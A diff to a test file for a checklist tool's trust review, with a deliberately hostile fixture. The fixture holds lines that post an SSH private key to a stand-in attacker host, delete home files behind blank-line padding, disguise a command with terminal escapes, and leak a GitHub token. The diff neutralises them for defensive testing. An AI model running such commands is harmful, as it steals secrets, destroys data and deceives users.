@@ -30,7 +30,7 @@ vars:
   base: http://127.0.0.1:9/
 environments:
   staging: {label: Staging, default: true, vars: {base: "http://127.0.0.1:8001"}}
-  prod: {label: Prod, vars: {base: "https://shop.example.com"}}
+  prod: {label: Prod, vars: {base: "https://shop.invalid"}}
   also-staging: {label: Staging 2, vars: {base: "http://127.0.0.1:8001"}}
 logs:
   tail: {command: "ssh ${base} tail -f log"}
@@ -41,30 +41,30 @@ sections:
     items:
       - id: a
         title: A
-        notes: &hidden "curl -d @$HOME/.ssh/id_rsa evil.example"
+        notes: &hidden ": curl -d @$HOME/.ssh/id_rsa evil.invalid"
         probes:
           - id: spoof
             kind: command
-            run: "touch /tmp/pwned #\\e[2K\\r    $ echo harmless"
+            run: ": touch pwned #\\e[2K\\r    $ echo harmless"
           - id: fold
             kind: command
-            run: "echo oneBLANKS\\nrm -rf ~/important"
+            run: "echo oneBLANKS\\n: rm -rf ~/important"
           - id: alias
             kind: command
             run: *hidden
           - id: leak
             kind: command
-            run: "curl -H 'X: ${GITHUB_TOKEN}' ${base}"
+            run: ": curl -H 'X: ${GITHUB_TOKEN}' ${base}"
           - id: wide
             kind: command
-            run: "echo okSPACES; curl evil.example"
+            run: "echo okSPACES; : curl evil.invalid"
           - id: web
             kind: http
             url: "${base}/x"
             headers: {Authorization: "Bearer ${api}"}
           - id: port
             kind: tcp
-            host: db.internal
+            host: db.invalid
             port: 5432
 """.replace("BLANKS", "\\n" * 46).replace("SPACES", " " * 300)
 
@@ -95,13 +95,13 @@ def test_the_review_shows_every_command_host_and_input_per_environment(hostile: 
     assert [r.environments for r in reviews] == [["staging", "also-staging"], ["prod"]]
     text = "\n".join(review_blocks(checklist, "staging"))
     assert RAW.search(text) is None
-    assert "$ touch /tmp/pwned #\\e[2K\\r    $ echo harmless" in text
-    assert "… 46 blank lines …" in text and "> rm -rf ~/important" in text
-    assert "[a/alias] on this machine:\n    $ curl -d @$HOME/.ssh/id_rsa evil.example" in text
-    assert "; curl evil.example" in text
+    assert "$ : touch pwned #\\e[2K\\r    $ echo harmless" in text
+    assert "… 46 blank lines …" in text and "> : rm -rf ~/important" in text
+    assert "[a/alias] on this machine:\n    $ : curl -d @$HOME/.ssh/id_rsa evil.invalid" in text
+    assert "; : curl evil.invalid" in text
     assert "[log source tail] on this machine:\n    $ ssh http://127.0.0.1:8001 tail -f log" in text
-    assert "http://127.0.0.1:8001  (a/web)" in text and "https://shop.example.com  (a/web)" in text
-    assert "tcp db.internal:5432  (a/port)" in text
+    assert "http://127.0.0.1:8001  (a/web)" in text and "https://shop.invalid  (a/web)" in text
+    assert "tcp db.invalid:5432  (a/port)" in text
     assert "secret ${api} from environment variable $API_TOKEN  → sent to http://127.0.0.1:8001" in text
     assert "environment variable ${GITHUB_TOKEN}  → sent to the command of a/leak" in text
     assert TOKEN not in text and API not in text  # values from the environment stay ${NAME}
@@ -119,13 +119,13 @@ def test_qatui_trust_prints_the_review_inert_and_the_screen_shows_the_same(
     out = capsysbinary.readouterr().out.decode()
     assert code == 0
     assert RAW.search(out) is None and TOKEN not in out and API not in out
-    assert "runs 6 command(s)" in out and "$ touch /tmp/pwned #\\e[2K\\r" in out
+    assert "runs 6 command(s)" in out and "$ : touch pwned #\\e[2K\\r" in out
     assert out.split("\n\n")[1].splitlines() == "\n".join(review_blocks(load_checklist(hostile, env=env), "staging")).splitlines()
 
 
 async def test_the_trust_dialog_shows_the_review_and_keeps_y_until_the_end(hostile: Path, tmp_path: Path) -> None:
     env = env_of(tmp_path)
-    app = make_app(tmp_path, hostile, env_vars=env, env_key="staging")
+    app = make_app(tmp_path, hostile, env_vars=env, env_key="staging", trusted=False)
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.press("r")
         await pilot.pause()
